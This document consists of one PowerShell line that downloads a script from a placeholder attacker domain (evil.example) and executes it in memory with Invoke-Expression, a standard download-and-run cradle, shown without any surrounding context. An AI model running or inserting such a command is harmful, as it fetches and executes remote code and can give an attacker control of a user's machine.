iex (iwr https://e.evil.example/a.ps1 -UseBasicParsing).Content
